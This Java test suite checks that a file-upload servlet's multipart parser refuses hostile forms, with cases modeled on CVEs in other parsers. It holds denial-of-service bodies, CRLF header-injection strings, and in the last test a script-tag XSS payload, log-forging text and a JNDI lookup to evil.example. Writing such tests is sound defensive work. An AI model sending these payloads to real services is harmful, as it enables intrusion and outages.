package dev.filestore.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Forms that took peers' parsers down, or around whoever looked at them before. */
abstract class HostileFormsContract extends HostileContract.Group {

    private static final String BOUNDARY = Form.BOUNDARY;
    private static final String FILE = "Content-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\n";
    private static final int MANY = 100_000;
    private static final int LARGE = 2_000_000;

    private static Form pdf() {
        return new Form().file("file", "a.pdf", "application/pdf", HttpCalls.PDF);
    }

    /** A form whose file has this header, each line ended. */
    private static Form header(String lines) {
        return new Form().text("--" + BOUNDARY + "\r\n" + lines + "\r\n" + pdfText() + "\r\n");
    }

    private static String pdfText() {
        return new String(HttpCalls.PDF, StandardCharsets.US_ASCII);
    }

    /**
     * CVE-2026-42561 (python-multipart), CVE-2025-61772 (Rack): headers of a part without an end were read on and on.
     * CVE-2025-48976 (Commons FileUpload), CVE-2025-48988 (Tomcat): they were bounded too generously.
     */
    static Stream<Arguments> endlessHeaders() {
        return Stream.of(
                Arguments.of("one line", FILE + "X-Long: " + "x".repeat(LARGE)),
                Arguments.of("a line without colon", "x".repeat(LARGE)),
                Arguments.of("many lines", FILE + "X-1: y\r\n".repeat(LARGE / 8)),
                Arguments.of("a folded line", FILE + "X-1: y" + "\r\n ".repeat(LARGE / 3)),
                Arguments.of("spaces", FILE + "X-1:" + " ".repeat(LARGE)),
                Arguments.of("parameters", FILE.strip() + "; x=y".repeat(LARGE / 5)),
                Arguments.of("semicolons", FILE.strip() + ";".repeat(LARGE)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("endlessHeaders")
    void upload_endlessHeaderOfAPart_isRefused(String title, String header) {
        JsonNode failure = assertRefused(upload(header(header + "\r\n").bytes()), "400 Invalid request");

        assertThat(failure.path("message").asText()).isEqualTo("The header of a part has more than 8192 bytes");
    }

    /**
     * CVE-2023-24580 (Django), CVE-2023-24998 (Commons FileUpload), CVE-2023-25577 (Werkzeug), CVE-2023-27530 (Rack),
     * CVE-2023-30798 (Starlette), CVE-2022-41725 and CVE-2023-24536 (Go): each of thousands of parts cost memory, or a file.
     */
    @ParameterizedTest
    @ValueSource(strings = {"name=\"x\"", "name=\"x\"; filename=\"x\"", "name=\"x\"; filename=\"\"", "name=\"\""})
    void upload_thousandsOfParts_isRefused(String parameters) {
        String part = "--" + BOUNDARY + "\r\nContent-Disposition: form-data; " + parameters + "\r\n\r\n\r\n";
        Form form = new Form().text(part.repeat(MANY / 10)).file("file", "a.pdf", null, HttpCalls.PDF);

        JsonNode failure = assertRefused(upload(form.bytes()), "400 Invalid request");

        assertThat(failure.path("message").asText()).isEqualTo("There are more than 32 parts");
    }

    @Test
    void upload_asManyPartsAsMayBeWithHeadersAsLongAsMayBe_isStored() {
        String disposition = "Content-Disposition: form-data; name=\"";
        Form form = new Form();
        for (int i = 0; i < 31; i++) {
            // CVE-2026-34827 (Rack): escapes in quotes took time that grew faster than their number.
            String name = "\\\\".repeat((8192 - disposition.length() - 5) / 2);
            form.text("--" + BOUNDARY + "\r\n" + disposition + name + "\"\r\n\r\nx\r\n");
        }

        assertStored(upload(
                form.file("file", "a.pdf", "application/pdf", HttpCalls.PDF).bytes()));
    }

    /**
     * CVE-2024-47874 (Starlette), CVE-2024-49767 (Werkzeug), CVE-2025-61771 (Rack), CVE-2023-26048 (Jetty): a part without
     * a file name was held in memory, whatever its size.
     */
    @Test
    void upload_largeField_isRefused() {
        String large = "x".repeat(LARGE);

        assertRefused(upload(new Form().field("comment", large).bytes()), "400 No file provided");
        assertRefused(upload(pdf().field("comment", large).bytes()), "400 Invalid request");
        assertRefused(
                upload(new Form().field("expires_in_hours", "1".repeat(LARGE)).bytes()), "400 Invalid request");
        assertRefused(upload(pdf().field("expires_in_hours", "1".repeat(LARGE)).bytes()), "400 Invalid request");
        assertRefused(upload(new Form().field("file", large).bytes()), "400 No file provided");
    }

    /**
     * CVE-2025-61770 (Rack): what stood before the first boundary was gathered in memory. CVE-2024-53981, CVE-2026-40347
     * (python-multipart): what stood there, or behind the last, was looked at byte by byte, with a log line for each.
     */
    @ParameterizedTest
    @ValueSource(
            strings = {"x", "\r\n", "\r", "\n", "-", "\r\n--", "--" + BOUNDARY + "x", "\r\n--" + BOUNDARY + "\r", "\0"})
    void upload_megabytesAroundTheParts_areRefused(String filler) {
        String large = filler.repeat(LARGE / filler.length());

        assertRefused(
                upload(new Form()
                        .text(large + "\r\n")
                        .text(new String(pdf().bytes(), StandardCharsets.UTF_8))
                        .bytes()),
                "400 Invalid request");
        assertRefused(upload(pdf().endingWith("--" + BOUNDARY + "--" + large).bytes()), "400 Invalid request");
        assertRefused(upload(large.getBytes(StandardCharsets.UTF_8)), "400 Invalid request");
    }

    /**
     * CVE-2025-47944, CVE-2025-7338 (multer), CVE-2022-24434 (dicer): forms that break off in a part, or have a header that
     * is none, ended the process. CVE-2025-48997 (multer): a field without a name did.
     */
    static Stream<Arguments> broken() {
        String part = "--" + BOUNDARY + "\r\n";
        return Stream.of(
                Arguments.of("header runs into the last boundary", part + FILE + "--" + BOUNDARY + "--\r\n"),
                Arguments.of("header runs into the next boundary", part + FILE + part + FILE + "\r\nx\r\n"),
                Arguments.of("no header at all", part + "\r\n%PDF-1.4\r\n--" + BOUNDARY + "--\r\n"),
                Arguments.of("nothing in the part", part + "--" + BOUNDARY + "--\r\n"),
                Arguments.of("empty lines only", part + "\r\n\r\n--" + BOUNDARY + "--\r\n"),
                Arguments.of(
                        "header begins with a space",
                        part + " " + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of("boundary cut off", part + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY.substring(1)),
                Arguments.of("boundary cut off at its end", part + FILE + "\r\n\r\n--" + BOUNDARY.substring(0, 19)),
                Arguments.of(
                        "last boundary with one dash",
                        part + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "-\r\n"),
                Arguments.of("boundary goes on", part + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "x--\r\n"),
                Arguments.of(
                        "boundary in small letters",
                        part + FILE + "\r\n" + pdfText()
                                + ("\r\n--" + BOUNDARY + "--").toLowerCase(java.util.Locale.ROOT)),
                Arguments.of("boundary behind CR", part + FILE + "\r\n" + pdfText() + "\r--" + BOUNDARY + "--\r\n"),
                Arguments.of("boundary behind LF", part + FILE + "\r\n" + pdfText() + "--" + BOUNDARY + "--\r\n"),
                Arguments.of("much padding", "--" + BOUNDARY + " ".repeat(LARGE) + "\r\n" + FILE + "\r\n" + pdfText()),
                Arguments.of("colon first", part + ": x\r\n" + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of(
                        "space before the colon",
                        part + FILE.replace("n:", "n :") + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of(
                        "Unicode in a header's name",
                        part + "X-\uff28: y\r\n" + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of(
                        "ideographic space in it",
                        part + "\u3000" + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of(
                        "NUL in a header",
                        part + "X-1: a\0b\r\n" + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of(
                        "LF in a header", part + "X-1: a\n" + FILE + "\r\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of("LF ends the header", part + FILE + "\n" + pdfText() + "\r\n--" + BOUNDARY + "--"),
                Arguments.of(
                        "file as a field and as a file",
                        part + FILE + "\r\n" + pdfText() + "\r\n" + part
                                + "Content-Disposition: form-data; name=file\r\n\r\nx\r\n--" + BOUNDARY + "--"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("broken")
    void upload_brokenForm_isRefused(String title, String form) {
        assertRefused(upload(form.getBytes(StandardCharsets.UTF_8)), "400 Invalid request");
    }

    @Test
    void upload_partThatIsAFormItself_isNotLookedInto() {
        String inner = "--inner\r\n" + FILE + "\r\n" + pdfText() + "\r\n--inner--";
        String disposition =
                "Content-Disposition: form-data; name=\"%s\"\r\nContent-Type: multipart/mixed; boundary=inner\r\n\r\n";
        String part = "--" + BOUNDARY + "\r\n" + disposition;

        assertRefused(
                upload(new Form().text(part.formatted("files") + inner + "\r\n").bytes()), "400 No file provided");
        assertRefused(
                upload(new Form().text(part.formatted("file") + inner + "\r\n").bytes()), "400 No file provided");
        assertRefused(
                upload(new Form()
                        .file(
                                "file",
                                "a.pdf",
                                "multipart/mixed; boundary=inner",
                                inner.getBytes(StandardCharsets.US_ASCII))
                        .bytes()),
                "400 File type not allowed");
        // An inner boundary that the outer one begins is an outer boundary with something behind it.
        assertRefused(
                upload(new Form()
                        .text(part.formatted("x") + inner.replace("inner", BOUNDARY + "2") + "\r\n")
                        .bytes()),
                "400 Invalid request");
    }

    /** CVE-2026-33033 (Django): white space in base64 took quadratic time. Nothing is decoded here. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "base64",
                "quoted-printable",
                "BASE64 ",
                "x-gzip",
                "b\u0131nary",
                "\u3000binary",
                "",
                "binary, base64"
            })
    void upload_transferEncoding_isRefused(String encoding) {
        Form form =
                header(FILE + "Content-Transfer-Encoding: " + encoding + "\r\n").text(" \t\r\n".repeat(MANY));

        assertRefused(upload(form.bytes()), "400 Invalid request");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Content-Transfer-Encoding: BINARY",
                "Content-Length: 3",
                "Content-Length: -1",
                "Content-Length: 99999999999999999999",
                "Transfer-Encoding: chunked",
                "Content-Encoding: gzip",
                "Content-Type: application/pdf; charset=utf-16; boundary=" + BOUNDARY,
                "Content-Location: http://evil.example/x",
                "Location: /x\r\nSet-Cookie: a=b\r\nStatus: 500",
            })
    void upload_otherHeadersOfAPart_areNotBelieved(String lines) {
        assertStored(upload(header(FILE + lines + "\r\n").bytes()));
    }

    @ParameterizedTest
    @ValueSource(strings = {"utf-7", "euc-kr", "utf-16le", "\u202e", "x"})
    void upload_charsetField_changesNothing(String charset) {
        JsonNode file = json(upload(new Form()
                .field("_charset_", charset)
                .file("file", "\ubb38\uc11c.pdf", "application/pdf", HttpCalls.PDF)
                .bytes()));

        assertThat(file.path("original_filename").asText()).isEqualTo("\ubb38\uc11c.pdf");
    }

    @Test
    void upload_bodyWithAContentCoding_isRefused() {
        assertRefused(upload(gzip(pdf().bytes()), "Content-Encoding: gzip"), "400 Invalid request");
        assertRefused(upload(pdf().bytes(), "Content-Encoding: gzip"), "400 Invalid request");
        assertRefused(upload(pdf().bytes(), "Content-Encoding: identity, x\u00e4'<b>"), "400 Invalid request");
        assertStored(upload(pdf().bytes(), "Content-Encoding: Identity"));
    }

    private static byte[] gzip(byte[] bytes) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    /** A client's own words come back in messages: here in every one that repeats them. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\u202eevil\u2066",
                "a\u001b[31mb",
                "a' op=delete status=200 user='admin",
                "a\\u0000b\ue000\u2028c",
                "${jndi:ldap://evil.example/a}%n%s{}"
            })
    void upload_hostileWords_areRepeatedHarmlesslyIfAtAll(String words) {
        String long64 = words + "x".repeat(100);

        assertRefused(
                upload(new Form()
                        .field("expires_in_hours", words.substring(0, Math.min(20, words.length())))
                        .bytes()),
                "400 Invalid request");
        assertRefused(upload(new Form().field(words, "x".repeat(MANY)).bytes()), "400 No file provided");
        assertRefused(
                upload(new Form()
                        .field(long64 + "%0D%0AX-Evil: y%22", "x".repeat(MANY))
                        .bytes()),
                "400 No file provided");
        assertRefused(
                upload(new Form().file("file", "a.pdf", words, HttpCalls.PDF).bytes()), "400 File type not allowed");
        assertRefused(
                upload(new Form()
                        .file("file", "a.pdf", "text/" + long64, HttpCalls.PDF)
                        .bytes()),
                "400 File type not allowed");
        assertRefused(
                upload(new Form()
                        .file("file", "a." + words, null, HttpCalls.PDF)
                        .bytes()),
                "400 File type not allowed");
        assertRefused(
                upload(header(FILE + "Content-Digest: md5=:" + words + ":\r\n").bytes()), "400 Invalid request");
        assertRefused(upload(header(FILE + "X-1: 1\r\nx-1: " + words + "\r\n").bytes()), "400 Invalid request");
    }
}
